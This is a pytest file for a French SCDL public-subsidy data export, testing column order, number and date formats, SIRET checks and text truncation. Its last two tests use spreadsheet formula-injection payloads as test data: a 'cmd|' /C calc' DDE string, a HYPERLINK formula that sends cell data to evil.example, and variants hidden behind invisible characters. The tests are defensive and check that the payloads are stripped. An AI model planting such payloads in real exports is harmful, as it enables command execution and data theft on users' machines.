"""SCDL subventions 2.1.1 rows (domain.scdl): column order, formats, the object cut on a word, the share clamped."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest

from ptce_aap.domain import scdl

AWARDING = scdl.Awarding(name="Ministère de l'Économie", siret="11000201100044", programme="AAP PTCE 2026")


def laureate(**kw):
    values = dict(dossier_id=1, decision_id=2, pole_name="Pôle", carrier_legal_name="Association  du Val",
                  carrier_siret="73282932000074", carrier_rna="W691234567", departments=("69",),
                  summary="Un pôle, des coopérations.", strategy="Stratégie.", total_budget_eur=Decimal("400000"),
                  amount_eur=Decimal("80000"), reference="DEC-1", agreement_date=date(2027, 1, 10),
                  decision_date=date(2026, 12, 3), payment_terms="unique",
                  payment_period=(date(2027, 1, 1), date(2027, 12, 31)))
    values.update(kw)
    return scdl.Laureate(**values)


def test_a_row_has_the_schema_columns_in_order_and_its_formats():
    row = scdl.scdl_row(laureate(), AWARDING)
    assert tuple(row) == scdl.COLUMNS
    assert row == {
        "nomAttribuant": "Ministère de l'Économie", "idAttribuant": "11000201100044", "dateConvention": "2027-01-10",
        "referenceDecision": "DEC-1", "nomBeneficiaire": "Association du Val", "idBeneficiaire": "73282932000074",
        "rnaBeneficiaire": "W691234567", "objet": "Un pôle, des coopérations.", "montant": "80000.00",
        "nature": "aide en numéraire", "conditionsVersement": "unique",
        "datesPeriodeVersement": "2027-01-01/2027-12-31", "idRAE": "", "notificationUE": "non",
        "pourcentageSubvention": "0.2", "dispositifAide": "AAP PTCE 2026"}
    assert scdl.problems([row]) == []


def test_without_agreement_the_decision_date_and_the_tranches_span():
    row = scdl.scdl_row(laureate(agreement_date=None, payment_period=(None, None),
                                 tranche_dates=(date(2027, 9, 1), date(2027, 1, 15))), AWARDING)
    assert row["dateConvention"] == "2026-12-03" and row["datesPeriodeVersement"] == "2027-01-15/2027-09-01"


def test_the_share_is_clamped_and_written_with_a_dot():
    assert scdl.share_text(Decimal("1"), Decimal("1000000")) == "0.01"
    assert scdl.share_text(Decimal("900"), Decimal("300")) == "1"
    assert scdl.share_text(Decimal("1"), Decimal("3")) == "0.33"
    assert scdl.share_text(Decimal("1"), None) == ""
    assert scdl.amount_text(Decimal("1234.5")) == "1234.50"


def test_the_object_is_under_256_characters_and_cut_on_a_word():
    long = "coopération " * 40
    text = scdl.object_text(long, "")
    assert len(text) < 256 and text.endswith("coopération…")
    assert scdl.object_text("", "La   stratégie\ndu pôle") == "La stratégie du pôle"
    assert scdl.object_text("x" * 300, "").endswith("…") and len(scdl.object_text("x" * 300, "")) == 255


def test_invalid_sirets_are_found():
    row = scdl.scdl_row(laureate(carrier_siret="73282932000075"), scdl.Awarding("A", "1100020110004", "P"))
    assert {column for _name, column in scdl.problems([row])} == {"idAttribuant", "idBeneficiaire"}
    assert scdl.siret_valid("73282932000074") and not scdl.siret_valid("7328293200007a")


def test_csv_and_json_carry_the_same_cells():
    rows = [scdl.scdl_row(laureate(), AWARDING), scdl.scdl_row(laureate(summary='Dit "oui", puis non'), AWARDING)]
    data = scdl.to_csv(rows)
    assert not data.startswith(b"\xef\xbb\xbf") and data.split(b"\r\n")[0] == ",".join(scdl.COLUMNS).encode()
    assert list(csv.DictReader(io.StringIO(data.decode()))) == json.loads(scdl.to_json(rows)) == rows


def test_no_public_cell_typed_by_a_pole_starts_a_formula():
    row = scdl.scdl_row(laureate(carrier_legal_name="@SUM(1+1)*cmd|' /C calc'!A0",
                                 summary='=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', reference="+DEC"),
                        AWARDING)
    assert row["nomBeneficiaire"] == "SUM(1+1)*cmd|' /C calc'!A0"
    assert row["objet"].startswith('HYPERLINK(') and row["referenceDecision"] == "DEC"
    cells = [cell for line in csv.reader(io.StringIO(scdl.to_csv([row]).decode())) for cell in line]
    assert not any(cell.startswith(tuple(scdl.FORMULA_STARTS)) for cell in cells)


@pytest.mark.parametrize("typed", ["\u200b=1+1", "\ufeff=1+1", "\u3000@SUM(A1)", "\u2028-2+3", " \u200b =+@1+1"])
def test_a_formula_behind_an_invisible_character_is_stripped_too(typed):
    row = scdl.scdl_row(laureate(summary=typed, carrier_legal_name=typed), AWARDING)
    assert row["objet"] == row["nomBeneficiaire"] == typed.lstrip(" \u200b\ufeff\u3000\u2028=+@-").lstrip()
    assert row["objet"][0] in "12S"
